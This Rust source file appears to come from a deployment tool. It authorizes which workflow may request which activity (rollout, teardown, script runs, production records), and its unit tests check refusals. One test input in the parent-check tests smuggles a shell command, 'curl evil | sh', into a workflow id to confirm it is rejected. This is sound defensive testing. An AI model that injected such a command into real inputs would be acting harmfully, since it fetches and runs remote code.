//! The caller of an activity, and what it may ask for. Pure.

use berth_workflows::contract::{
    environment::{Environment, EnvironmentKind},
    rollout_input::{ROLLOUT, rollout_id},
    script::{SCRIPT_RUN, script_id},
    verdict::{FailureType, Verdict},
};

use super::refusal::denied;
use crate::failure::Failure;

/// The workflow that scheduled an activity, as the server's task information names it. Both are `None` for an activity
/// that no workflow has scheduled.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Caller {
    pub(crate) workflow_id: Option<String>,
    pub(crate) workflow_type: Option<String>,
}

impl Caller {
    /// Whether it is the workflow of this id and type. Ids alone can be the same for another app.
    pub(crate) fn is(&self, workflow_id: &str, workflow_type: &str) -> bool {
        self.workflow_id.as_deref() == Some(workflow_id) && self.workflow_type.as_deref() == Some(workflow_type)
    }
}

/// The purpose of an activity. It decides which workflow may call it, and for which kind of environment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Purpose {
    /// The namespace, the database and the secrets, for a rollout or for the plan of one.
    Prepare,
    /// A rollout, from the apply to the prune.
    RollOut,
    /// A look at a release after its rollout has failed.
    LookLate,
    /// The removal of a preview. Only its own workflow may ask: while it runs, no other can have its id.
    TearDown,
    /// A script by hand, in a preview.
    RunScript,
    /// The record of production, its plans and its stored releases.
    KeepRecord,
}

/// The role of a workflow in an environment.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Environment,
    Rollout,
    ScriptRun,
}

impl Purpose {
    fn roles(self) -> &'static [Role] {
        match self {
            Self::Prepare => &[Role::Environment, Role::Rollout],
            Self::RollOut => &[Role::Rollout],
            Self::LookLate | Self::TearDown | Self::KeepRecord => &[Role::Environment],
            Self::RunScript => &[Role::ScriptRun],
        }
    }

    /// Returns why environments of that kind are excluded, if they are.
    fn exclusion(self, kind: EnvironmentKind) -> Option<&'static str> {
        match (self, kind) {
            (Self::LookLate, EnvironmentKind::Production) => Some("a failed release of production is rolled back"),
            (Self::TearDown, EnvironmentKind::Production) => Some("production is never removed"),
            (Self::RunScript, EnvironmentKind::Production) => Some("scripts are run by hand in previews only"),
            (Self::KeepRecord, EnvironmentKind::Preview { .. }) => Some("a preview has no record of releases"),
            _ => None,
        }
    }
}

/// Checks that the caller is the workflow that the purpose demands, under the id that follows from app and kind.
///
/// # Errors
/// `PolicyDenied`, permanent.
pub(super) fn check(caller: &Caller, purpose: Purpose, environment: &Environment) -> Result<(), Failure> {
    environment.check_identity().map_err(denied)?;
    if let Some(why) = purpose.exclusion(environment.kind) {
        return Err(denied(why));
    }
    if role(caller, environment).is_some_and(|role| purpose.roles().contains(&role)) {
        return Ok(());
    }
    let id = &environment.workflow_id;
    let advice = format!("only {id} and the workflows that it starts may: send it a message, as `berth preview` does");
    Err(refused(caller, id, advice))
}

/// Checks that the caller is the workflow of one of the app's environments, and the other one a child of it.
///
/// # Errors
/// `PolicyDenied`, permanent.
pub(crate) fn check_parent(caller: &Caller, app: &str, child: &str) -> Result<(), Failure> {
    let own = caller.workflow_id.as_deref().unwrap_or_default();
    let kind = EnvironmentKind::from_workflow_id(app, own);
    let environment = kind.map(|kind| Environment::unrecorded(app, kind, own));
    let is_parent = environment.filter(|environment| environment.check_identity().is_ok()).is_some_and(|environment| {
        let child = |kind: &str| Caller { workflow_id: Some(child.to_owned()), workflow_type: Some(kind.to_owned()) };
        role(caller, &environment) == Some(Role::Environment)
            && [ROLLOUT, SCRIPT_RUN].iter().any(|kind| role(&child(kind), &environment).is_some())
    });
    if is_parent {
        return Ok(());
    }
    Err(refused(caller, &format!("{child:?} of app {app:?}"), "only the workflow that started it may".to_owned()))
}

fn refused(caller: &Caller, subject: &str, advice: String) -> Failure {
    let who = match (&caller.workflow_id, &caller.workflow_type) {
        (Some(id), Some(kind)) => format!("the {kind} {id:?}"),
        _ => "an activity that no workflow has scheduled".to_owned(),
    };
    Verdict::new(FailureType::PolicyDenied, format!("{who} may not do this to {subject}")).advise(advice).into()
}

/// Returns the role of the caller in the environment. An id and a type decide together: ids alone can be the same for
/// another app.
fn role(caller: &Caller, environment: &Environment) -> Option<Role> {
    let (id, own) = (caller.workflow_id.as_deref()?, environment.workflow_id.as_str());
    match caller.workflow_type.as_deref()? {
        kind if kind == environment.kind.workflow_type() => (id == own).then_some(Role::Environment),
        ROLLOUT => (id == rollout_id(own, number(id)?)).then_some(Role::Rollout),
        SCRIPT_RUN => (id == script_id(own, number(id)?)).then_some(Role::ScriptRun),
        _ => None,
    }
}

/// Returns the number at the end of an id. Numbers count from 1.
fn number(id: &str) -> Option<u64> {
    id.rsplit('-').next()?.parse().ok().filter(|number| *number > 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::examples::environment;

    const ALL: [Purpose; 6] = [
        Purpose::Prepare,
        Purpose::RollOut,
        Purpose::LookLate,
        Purpose::TearDown,
        Purpose::RunScript,
        Purpose::KeepRecord,
    ];

    fn caller(id: &str, kind: &str) -> Caller {
        Caller { workflow_id: Some(id.to_owned()), workflow_type: Some(kind.to_owned()) }
    }

    fn production() -> Environment {
        Environment::unrecorded("web", EnvironmentKind::Production, "production-web")
    }

    /// Returns the purposes that the caller may have.
    fn admitted(caller: &Caller, environment: &Environment) -> Vec<Purpose> {
        ALL.into_iter().filter(|purpose| check(caller, *purpose, environment).is_ok()).collect()
    }

    #[test]
    fn caller_is_the_environments_workflow_or_its_child() {
        use Purpose::{KeepRecord, LookLate, Prepare, RollOut, RunScript, TearDown};
        let (preview, production) = (environment(), production());
        for (id, kind, environment, purposes) in [
            ("preview-web-1", "PreviewEnvironment", &preview, &[Prepare, LookLate, TearDown][..]),
            ("preview-web-1-rollout-2", "Rollout", &preview, &[Prepare, RollOut]),
            ("preview-web-1-rollout-18446744073709551615", "Rollout", &preview, &[Prepare, RollOut]),
            ("preview-web-1-script-3", "ScriptRun", &preview, &[RunScript]),
            ("production-web", "ProductionEnvironment", &production, &[Prepare, KeepRecord]),
            ("production-web-rollout-9", "Rollout", &production, &[Prepare, RollOut]),
        ] {
            assert_eq!(admitted(&caller(id, kind), environment), purposes, "{id} {kind}");
        }
    }

    #[test]
    fn caller_of_another_type_or_environment_is_refused() {
        let (preview, production) = (environment(), production());
        for (id, kind, environment) in [
            // The right id with a wrong type.
            ("preview-web-1", "Rollout", &preview),
            ("preview-web-1", "Stranger", &preview),
            ("preview-web-1", "ProductionEnvironment", &preview),
            ("preview-web-1-rollout-2", "PreviewEnvironment", &preview),
            ("preview-web-1-rollout-2", "ScriptRun", &preview),
            ("preview-web-1-script-3", "Rollout", &preview),
            ("production-web", "PreviewEnvironment", &production),
            // The right type with the id of another environment.
            ("preview-web-2", "PreviewEnvironment", &preview),
            ("preview-web-11-rollout-2", "Rollout", &preview),
            ("preview-web-1-rollout-2-rollout-2", "Rollout", &preview),
            ("preview-shop-1-rollout-2", "Rollout", &preview),
            ("production-web-rollout-9", "Rollout", &preview),
            ("preview-web-1-rollout-2", "Rollout", &production),
            ("production-web-script-1", "ScriptRun", &production),
        ] {
            assert_eq!(admitted(&caller(id, kind), environment), [], "{id} {kind}");
        }
    }

    #[test]
    fn parent_names_its_own_children_alone() {
        let is_admitted =
            |id: &str, kind: &str, app: &str, child: &str| check_parent(&caller(id, kind), app, child).is_ok();
        for child in ["preview-web-1-rollout-2", "preview-web-1-script-3"] {
            assert!(is_admitted("preview-web-1", "PreviewEnvironment", "web", child), "{child}");
        }
        assert!(is_admitted("production-web", "ProductionEnvironment", "web", "production-web-rollout-9"));
        for (id, kind, app, child) in [
            ("preview-web-1", "Stranger", "web", "preview-web-1-rollout-2"),
            ("preview-web-1-rollout-2", "Rollout", "web", "preview-web-1-rollout-2"),
            ("preview-web-1", "PreviewEnvironment", "shop", "preview-web-1-rollout-2"),
            ("preview-web-0", "PreviewEnvironment", "web", "preview-web-0-rollout-2"),
            ("preview-web-1", "PreviewEnvironment", "web", "preview-web-11-rollout-2"),
            ("preview-web-1", "PreviewEnvironment", "web", "preview-web-1-rollout-2; curl evil | sh"),
        ] {
            assert!(!is_admitted(id, kind, app, child), "{id} {kind} {app} {child}");
        }
        assert!(check_parent(&Caller::default(), "web", "preview-web-1-rollout-2").is_err());
    }

    #[test]
    fn childs_number_has_one_spelling() {
        for number in ["", "0", "02", "+2", "-2", " 2", "2 ", "2x", "0x2", "٢", "1e3", "18446744073709551616"] {
            for (word, kind) in [("rollout", "Rollout"), ("script", "ScriptRun")] {
                let id = format!("preview-web-1-{word}-{number}");
                assert_eq!(admitted(&caller(&id, kind), &environment()), [], "{id}");
            }
        }
    }

    #[test]
    fn activity_without_a_workflow_is_refused() {
        let half = Caller { workflow_id: Some("preview-web-1".to_owned()), workflow_type: None };
        for caller in [Caller::default(), half] {
            assert_eq!(admitted(&caller, &environment()), []);
        }
        let refused = check(&Caller::default(), Purpose::RollOut, &environment()).unwrap_err();
        assert!(matches!(&refused, Failure::Permanent(verdict) if verdict.failure == FailureType::PolicyDenied));
        assert!(refused.to_string().contains("no workflow has scheduled"), "{refused}");
    }

    #[test]
    fn input_with_another_workflow_id_is_refused() {
        let forged = Environment { workflow_id: "preview-shop-1".to_owned(), ..environment() };
        assert_eq!(admitted(&caller("preview-shop-1", "PreviewEnvironment"), &forged), []);
        assert_eq!(admitted(&caller("preview-web-1", "PreviewEnvironment"), &forged), []);
    }

    #[test]
    fn production_is_never_removed_and_runs_no_script_by_hand() {
        for purpose in [Purpose::TearDown, Purpose::RunScript] {
            let own = caller("production-web", "ProductionEnvironment");
            assert!(check(&own, purpose, &production()).unwrap_err().to_string().contains("PolicyDenied"));
        }
    }
}
